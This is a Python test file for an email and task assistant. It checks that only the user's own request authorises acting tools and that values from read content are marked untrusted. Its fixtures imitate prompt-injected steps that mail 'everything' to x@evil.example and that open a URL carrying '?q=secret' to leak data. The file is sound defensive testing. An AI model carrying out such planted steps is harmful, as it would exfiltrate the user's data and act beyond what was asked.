"""A model that has read others' texts gets no further than the user's own words."""

from __future__ import annotations

from pathlib import Path

import pytest

from tandem.assistant.assistant import Kind
from tandem.assistant.cards import Origin
from tandem.assistant.provenance import Leave, asked_for, origin_of, rule
from tandem.types import Effect, Tool
from tandem.understanding.catalogue import CATALOGUE
from tandem.understanding.reading import Ref
from tests.assistant.lives import acts, call, small_life

TOOLS = [
    Tool("get_unread_emails", effect=Effect.OUTWARD),
    Tool("send_email"),
    Tool("delete_email"),
    Tool("send_money"),
]


@pytest.mark.parametrize(
    ("request_text", "names"),
    [
        ("Summarise my unread mails", {"get_unread_emails"}),
        ("Reply to Ann that I come", {"get_unread_emails", "send_email"}),
        ("Delete the newsletter", {"get_unread_emails", "delete_email"}),
        ("Pay the rent", {"get_unread_emails", "send_money"}),
        ("把那封邮件删掉", {"get_unread_emails", "delete_email"}),
    ],
)
def test_the_request_alone_says_which_tools_may_act(request_text: str, names: set[str]) -> None:
    """Reading is free; an act needs a word for its kind."""
    assert asked_for(request_text, TOOLS) == names


def test_a_tool_that_nobody_asked_for_is_never_used() -> None:
    """Not even with a card: the user would have to see through it."""
    allowed = asked_for("what do my mails say", TOOLS)
    assert rule(TOOLS[1], {"to": "x@evil.example"}, "", allowed).leave is Leave.NEVER


def test_values_are_marked_by_where_they_came_from() -> None:
    """Said, from the address book, or from somewhere else."""
    request = "send the plan to ann@a.example and bob"
    arguments = {"recipients": ["ann@a.example", "bob@b.example", "x@evil.example"]}
    ruling = rule(TOOLS[1], arguments, request, asked_for(request, TOOLS), own="bob@b.example")
    assert ruling.leave is Leave.CARD
    assert [line.origin for line in ruling.lines] == [
        Origin.USER,
        Origin.OWN,
        Origin.UNTRUSTED,
    ]
    assert origin_of("", request, "") is Origin.UNTRUSTED


def test_a_page_at_an_address_of_others_making_is_shown_first() -> None:
    """Opening it could carry data out."""
    page = Tool("get_webpage")
    allowed = asked_for("read the news", [page])
    assert rule(page, {"url": "https://e.example/?q=secret"}, "read", allowed).leave is Leave.CARD


def test_what_a_model_adds_to_a_request_is_dropped_or_waits(tmp_path: Path) -> None:
    """The user's own act is done; what the planted text wanted is not."""
    life = small_life(tmp_path)
    thief = (Ref("contact", "x@evil.example"),)
    reading = acts(
        call("task_create", title="descale kettle"),
        call("mail_send", to=thief, body="everything"),
        call("note_create", text="visit https://evil.example"),
    )
    reply = life.assistant.act_on("todo descale kettle", reading, by_model=True)
    assert [card.step.tool for card in reply.waiting] == ["note_create"]
    assert reply.kind is Kind.WAITING
    assert life.sent() == []
    assert len(life.stores.notes.items()) == 0
    assert any("descale kettle" in item.text for item in life.stores.calendar.items())


def test_every_tool_of_the_catalogue_has_a_kind_or_reads() -> None:
    """Otherwise a cloud could never call it."""
    words = "send delete create change invite pay post password"
    tools = [spec.tool for spec in CATALOGUE.values() if spec.name != "undo"]
    assert asked_for(words, tools) == {tool.name for tool in tools}
